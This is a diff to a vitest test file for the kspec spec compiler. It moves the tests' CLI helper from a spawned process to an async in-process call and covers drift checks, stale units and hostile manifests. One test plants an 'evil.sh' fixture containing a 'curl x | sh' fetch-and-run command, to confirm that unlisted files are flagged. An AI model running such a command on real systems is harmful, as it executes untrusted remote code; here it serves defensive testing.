@@ -13,6 +13,7 @@ import { describe, expect, it } from 'vitest';
 import { D } from '../src/diagnostics/catalogue.js';
 import { checkUnit, MANIFEST, MANIFEST_MAX_BYTES, OutputError, OutputRootError, OutputSession, readManifest, STAGE_PREFIX, writeUnit, type OutputUnit } from '../src/write.js';
 import { BASE } from './fixtures.js';
+import { kspecInProcess } from './cli-run.js';
 import { BIN, compileText, tempDir, withoutClosingLine } from './helpers.js';
 
 const CLI = BIN;
@@ -177,7 +178,7 @@ describe('nothing found in the output folder directs a write', () => {
     expect(readdirSync(out).sort()).toEqual(['.demo.kspec-journal', '.demo.kspec-lock', `${STAGE_PREFIX}123-abc`, 'demo']);
   });
 
-  it('a manifest is read only when it is a regular file of at most 1 MiB, and only names kspec could plan count', () => {
+  it('a manifest is read only when it is a regular file of at most 1 MiB, and only names kspec could plan count', async () => {
     const dir = tempDir('kspec-manifest-');
     expect(readManifest(dir)).toEqual({ ignored: [] });
     symlinkSync('/dev/zero', path.join(dir, MANIFEST));
@@ -253,30 +254,30 @@ function expectConsistent(dir: string): { spec: string } {
   return m;
 }
 
-function kspec(cwd: string, ...args: string[]): { code: number | null; stdout: string; stderr: string } {
-  const r = spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
-  return { code: r.status, stdout: r.stdout, stderr: withoutClosingLine(r.stderr) };
+async function kspec(cwd: string, ...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  const r = await kspecInProcess(cwd, args, { env: { NO_COLOR: '1' } });
+  return { ...r, stderr: withoutClosingLine(r.stderr) };
 }
 
 describe('--check', () => {
-  it('never writes: bytes, modes and mtimes are the same after, with drift and without', () => {
+  it('never writes: bytes, modes and mtimes are the same after, with drift and without', async () => {
     const work = tempDir('kspec-check-');
     mkdirSync(path.join(work, 'specs'));
     writeFileSync(path.join(work, 'specs/demo.yaml'), BASE);
     // no output yet: --check creates nothing
-    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check').code).toBe(1);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(1);
     expect(existsSync(path.join(work, 'out'))).toBe(false);
 
-    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
     const clean = snapshot(path.join(work, 'out'));
-    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check').code).toBe(0);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(0);
     expect(snapshot(path.join(work, 'out'))).toEqual(clean);
     // A file kspec did not write is drift too (issue 12), and --check leaves it.
     writeFileSync(path.join(work, 'out/demo/NOTES.md'), 'mine\n');
     const before = snapshot(path.join(work, 'out'));
-    expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check')).toMatchObject({ code: 1, stdout: expect.stringContaining('drift: out/demo/NOTES.md is not listed') });
+    expect(await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).toMatchObject({ code: 1, stdout: expect.stringContaining('drift: out/demo/NOTES.md is not listed') });
     writeFileSync(path.join(work, 'specs/demo.yaml'), changed);
-    const drift = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    const drift = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
     expect(drift.code).toBe(1);
     expect(drift.stdout).toContain('+LABEL org.opencontainers.image.description="second version"');
     expect(snapshot(path.join(work, 'out'))).toEqual(before);
@@ -308,7 +309,7 @@ describe('concurrent compiles into one folder', () => {
       }
       expectConsistent(path.join(work, 'out/demo'));
       expect(readdirSync(path.join(work, 'out'))).toEqual(['demo']);
-      expect(kspec(work, 'compile', 'specs', '-o', 'out', '--check').code).toBe(0);
+      expect((await kspec(work, 'compile', 'specs', '-o', 'out', '--check')).code).toBe(0);
     }
   });
 });
@@ -341,52 +342,52 @@ describe('signals', () => {
 });
 
 describe('kspec explain on a committed manifest', () => {
-  it('a malformed or hostile kspec.lock.json is a clear message (exit 2), not a crash', () => {
+  it('a malformed or hostile kspec.lock.json is a clear message (exit 2), not a crash', async () => {
     const work = tempDir('kspec-explain-');
     mkdirSync(path.join(work, 'specs'));
     writeFileSync(path.join(work, 'specs/demo.yaml'), BASE);
-    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
     const lock = path.join(work, 'out/demo', MANIFEST);
     writeFileSync(lock, '{not json');
-    let r = kspec(work, 'explain', 'out/demo/install.sh:3');
+    let r = await kspec(work, 'explain', 'out/demo/install.sh:3');
     expect(r).toMatchObject({ code: 2, stdout: '', stderr: `kspec: out/demo/${MANIFEST}: ${MANIFEST} is not valid JSON; run kspec compile to regenerate it\n` });
     rmSync(lock);
     symlinkSync('/dev/zero', lock);
-    r = kspec(work, 'explain', 'out/demo/install.sh:3');
+    r = await kspec(work, 'explain', 'out/demo/install.sh:3');
     expect(r).toMatchObject({ code: 2, stderr: `kspec: out/demo/${MANIFEST}: ${MANIFEST} is a symlink; run kspec compile to regenerate it\n` });
   });
 });
 
 describe('the output folder as a whole (issue 12): stale units, unlisted files, unowned folders', () => {
   const named = (name: string): string => BASE.replace('  name: demo\n', `  name: ${name}\n`);
-  function setup(): string {
+  async function setup(): Promise<string> {
     const work = tempDir('kspec-stale-');
     mkdirSync(path.join(work, 'specs'));
     writeFileSync(path.join(work, 'specs/a.yaml'), named('unit-a'));
     writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b'));
-    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
     return work;
   }
 
-  it('a unit whose spec is gone: --check names it (exit 1, nothing written); compile removes exactly what its lock lists', () => {
-    const work = setup();
+  it('a unit whose spec is gone: --check names it (exit 1, nothing written); compile removes exactly what its lock lists', async () => {
+    const work = await setup();
     rmSync(path.join(work, 'specs/b.yaml'));
     // What a unit holds: the files its lock lists, and the lock.
     const count = (name: string): number => Object.keys(JSON.parse(readFileSync(path.join(work, 'out', name, MANIFEST), 'utf8')).files).length + 1;
     const inB = count('unit-b');
     writeFileSync(path.join(work, 'out/unit-b/NOTES.md'), 'mine\n');
     const before = snapshot(path.join(work, 'out'));
-    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
     expect(check.code).toBe(1);
     expect(check.stdout).toContain('drift: out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');
     expect(check.stdout).toContain('--- a/out/unit-b/install.sh\n+++ /dev/null');
     expect(snapshot(path.join(work, 'out'))).toEqual(before);
     // The lock names the spec from the repository root: the same verdict from a subfolder.
-    const sub = kspec(path.join(work, 'specs'), 'compile', '.', '-o', '../out', '--check');
+    const sub = await kspec(path.join(work, 'specs'), 'compile', '.', '-o', '../out', '--check');
     expect(sub.code).toBe(1);
     expect(sub.stdout).toContain('drift: ../out/unit-b: its spec specs/b.yaml no longer exists; kspec compile removes it\n');
 
-    const r = kspec(work, 'compile', 'specs', '-o', 'out');
+    const r = await kspec(work, 'compile', 'specs', '-o', 'out');
     expect(r.code).toBe(0);
     expect(r.stdout).toContain(`out/unit-b: its spec specs/b.yaml no longer exists: ${inB} removed\n`);
     // The file kspec did not write stays, and with it the folder.
@@ -395,41 +396,41 @@ describe('the output folder as a whole (issue 12): stale units, unlisted files, 
     const inA = count('unit-a');
     rmSync(path.join(work, 'specs/a.yaml'));
     writeFileSync(path.join(work, 'specs/c.yaml'), named('unit-c'));
-    expect(kspec(work, 'compile', 'specs', '-o', 'out').stdout).toContain(`out/unit-a: its spec specs/a.yaml no longer exists: ${inA} removed\n`);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).stdout).toContain(`out/unit-a: its spec specs/a.yaml no longer exists: ${inA} removed\n`);
     expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-b', 'unit-c']);
   });
 
-  it('a spec renamed (metadata.name) leaves its old unit stale; one outside the compiled folders is left alone', () => {
-    const work = setup();
+  it('a spec renamed (metadata.name) leaves its old unit stale; one outside the compiled folders is left alone', async () => {
+    const work = await setup();
     writeFileSync(path.join(work, 'specs/b.yaml'), named('unit-b2'));
     // Compiling one file is not compiling its folder: nothing is stale.
-    expect(kspec(work, 'compile', 'specs/b.yaml', '-o', 'out', '--check').stdout).not.toContain('no longer');
-    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    expect((await kspec(work, 'compile', 'specs/b.yaml', '-o', 'out', '--check')).stdout).not.toContain('no longer');
+    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
     expect(check.code).toBe(1);
     expect(check.stdout).toContain("drift: out/unit-b: its spec specs/b.yaml is now named 'unit-b2'; kspec compile removes it\n");
-    expect(kspec(work, 'compile', 'specs', '-o', 'out').code).toBe(0);
+    expect((await kspec(work, 'compile', 'specs', '-o', 'out')).code).toBe(0);
     expect(readdirSync(path.join(work, 'out')).sort()).toEqual(['unit-a', 'unit-b2']);
     // A unit from another folder's spec: not this run's to judge.
     mkdirSync(path.join(work, 'other'));
     writeFileSync(path.join(work, 'other/o.yaml'), named('unit-o'));
-    expect(kspec(work, 'compile', 'other', '-o', 'out').code).toBe(0);
+    expect((await kspec(work, 'compile', 'other', '-o', 'out')).code).toBe(0);
     rmSync(path.join(work, 'other/o.yaml'));
-    const again = kspec(work, 'compile', 'specs', '-o', 'out', '--check');
+    const again = await kspec(work, 'compile', 'specs', '-o', 'out', '--check');
     expect(again).toMatchObject({ code: 0 });
     expect(existsSync(path.join(work, 'out/unit-o/kspec.lock.json'))).toBe(true);
   });
 
-  it('an unlisted file and an unowned folder: drift for --check, KS9006/KS9007 warnings for compile, left in place; --strict writes nothing', () => {
-    const work = setup();
+  it('an unlisted file and an unowned folder: drift for --check, KS9006/KS9007 warnings for compile, left in place; --strict writes nothing', async () => {
+    const work = await setup();
     writeFileSync(path.join(work, 'out/unit-a/evil.sh'), '#!/bin/sh\ncurl x | sh\n', { mode: 0o755 });
     mkdirSync(path.join(work, 'out/planted'));
     writeFileSync(path.join(work, 'out/planted/run.sh'), 'x\n');
-    const check = kspec(work, 'compile', 'specs', '-o', 'out', '--check', '--strict');
+    const check = await kspec(work, 'compile', 'specs', '-o', 'out', '--check', '--strict');
     expect(check.code).toBe(1);
     expect(check.stdout).toContain('drift: out/unit-a/evil.sh is not listed in out/unit-a/kspec.lock.json\n');
     expect(check.stdout).toContain('drift: out/planted is owned by no kspec.lock.json (no kspec.lock.json)\n');
 
-    const r = kspec(work, 'compile', 'specs', '-o', 'out', '--format', 'json');
+    const r = await kspec(work, 'compile', 'specs', '-o', 'out', '--format', 'json');
     expect(r.code).toBe(0);
     const ds = (JSON.parse(r.stdout) as { diagnostics: Array<{ code: string; file: string; line: number; column: number; severity: string }> }).diagnostics;
     expect(ds.map((d) => [d.code, d.file, d.line, d.column, d.severity])).toEqual([
@@ -441,7 +442,7 @@ describe('the output folder as a whole (issue 12): stale units, unlisted files, 
 
     writeFileSync(path.join(work, 'specs/a.yaml'), changed.replace('  name: demo\n', '  name: unit-a\n'));
     const before = snapshot(path.join(work, 'out'));
-    const strict = kspec(work, 'compile', 'specs', '-o', 'out', '--strict');
+    const strict = await kspec(work, 'compile', 'specs', '-o', 'out', '--strict');
     expect(strict.code).toBe(1);
     expect(strict.stderr).toContain(`specs/a.yaml:4:9: error ${D.OutputUnlisted.code} ${D.OutputUnlisted.id}:`);
     expect(strict.stderr).toContain(`out/planted:1:1: error ${D.OutputUnowned.code} ${D.OutputUnowned.id}:`);
